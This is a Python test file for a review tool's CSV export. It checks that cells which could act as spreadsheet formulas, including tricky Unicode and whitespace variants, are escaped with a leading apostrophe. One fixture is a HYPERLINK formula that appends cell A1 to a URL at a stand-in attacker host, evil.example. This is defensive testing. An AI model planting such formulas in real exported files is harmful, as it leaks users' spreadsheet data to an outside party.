"""What is exported is whole, and no cell of it is a formula to a spreadsheet."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from include.model import FixState, Option
from include.review import spreadsheet
from include.store import listed
from tests.review import nights
from tests.store.cases import a_finding, approved, decide, ends, filed, fix_ids, set_email

CORPORA = Path(__file__).parents[3] / "shared" / "corpora"
FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"Ann")'


def table(answer) -> list[list[str]]:
    assert answer.status_code == 200
    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert answer.headers["Content-Disposition"].startswith('attachment; filename="rollcall-')
    text = answer.content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize(
    "said",
    [
        pytest.param("=1+1", id="equals"),
        pytest.param("+1", id="plus"),
        pytest.param("-1", id="minus"),
        pytest.param("@SUM(1)", id="at"),
        pytest.param("\t=1", id="tab"),
        pytest.param("\r=1", id="carriage-return"),
        pytest.param("\nx", id="line-feed"),
        pytest.param("  =1", id="after-blanks"),
        pytest.param("\u00a0=1", id="after-a-hard-blank"),
        pytest.param("\u200b\ufeff=1", id="after-what-is-invisible"),
        pytest.param("\uff1d1", id="full-width"),
        pytest.param("\u22121", id="a-real-minus"),
    ],
)
def test_a_cell_that_could_be_a_formula_begins_with_an_apostrophe(said):
    assert spreadsheet.cell(said).startswith("'")


@pytest.mark.parametrize(
    ("said", "cell"),
    [
        ("Ann O'Hara", "Ann O'Hara"), ("a=b", "a=b"), ("ann@x.example", "ann@x.example"), ("", ""), (None, ""),
        ("a;b|c", "a;b|c"), (-3, "-3"), (0.5, "0.5"), ("two\r\nlines", "two  lines"), (True, "True"), ("  ", "  "),
    ],
)  # fmt: skip
def test_what_is_no_formula_stays_as_it_is(said, cell):
    assert spreadsheet.cell(said) == cell


@pytest.mark.skipif(not CORPORA.is_dir(), reason="the corpora are not on this machine")
def test_no_hostile_string_becomes_a_formula_or_a_second_cell():
    said = [line for path in sorted(CORPORA.rglob("*.txt")) for line in path.read_text(errors="replace").splitlines()]
    assert len(said) > 1000
    text = "".join(spreadsheet.lines(["said", "beside"], ([one, "x"] for one in said)))
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))[1:]
    assert [len(row) for row in rows] == [2] * len(said)
    assert [row[0] for row in rows if row[0].strip()[:1] in set("=+-@")] == []
    elsewhere = [one for row in csv.reader(io.StringIO(text, newline=""), delimiter=";") for one in row]
    assert [one for one in elsewhere if one.strip()[:1] in set("=+-@")] == []


def test_findings_are_exported_whole_with_what_was_decided(ann, sqlite_ledger):
    row = filed(sqlite_ledger, a_finding(Option(FORMULA, (set_email(),))))
    decide(sqlite_ledger, row, "rejected", reason="+49 30 1234")
    header, one = table(ann.get("/exports/findings.csv"))
    told = dict(zip(header, one, strict=True))
    assert told["finding"] == row.id
    assert told["proposed"] == f"'{FORMULA}"
    assert (told["verdict"], told["by"], told["reason"]) == ("rejected", "ann", "'+49 30 1234")
    assert table(ann.get("/exports/findings.csv?state=open")) == [header]
    assert ann.get("/exports/findings.csv?state=nonsense").status_code == 404


def test_receipts_are_exported_with_what_changed(ann, sqlite_ledger):
    row = approved(sqlite_ledger, Option("it", (set_email(email="=cmd@evil.example"),)))
    ends(sqlite_ledger, *fix_ids(row), FixState.APPLIED)
    header, one = table(ann.get("/exports/receipts.csv"))
    told = dict(zip(header, one, strict=True))
    assert (told["outcome"], told["record"]) == ("applied and read back", "hubspot:contact:1")
    assert (told["before"], told["after"]) == ("Address: old@a.example", "Address: =cmd@evil.example")


def test_nights_are_exported(ann, sqlite_ledger):
    nights.filed(sqlite_ledger, left_out=["hubspot"])
    nights.stopped(sqlite_ledger, "2026-11-21.1", "=no")
    header, stopped, filed_one = table(ann.get("/exports/nights.csv"))
    assert dict(zip(header, stopped, strict=True))["stopped by"] == "'=no"
    assert filed_one == ["2026-11-20", "2026-11-20.1", "filed", "4", "2", "1", "28", "HubSpot", "16 min", ""]


def test_everything_is_listed_however_much_there_is(sqlite_ledger):
    told = [a_finding(subject=f"hubspot:contact:{number}") for number in range(1203)]
    filed(sqlite_ledger, *told)
    ids = [row.id for row in listed.findings(sqlite_ledger)]
    assert (len(ids), len(set(ids)), ids) == (1203, 1203, sorted(ids))
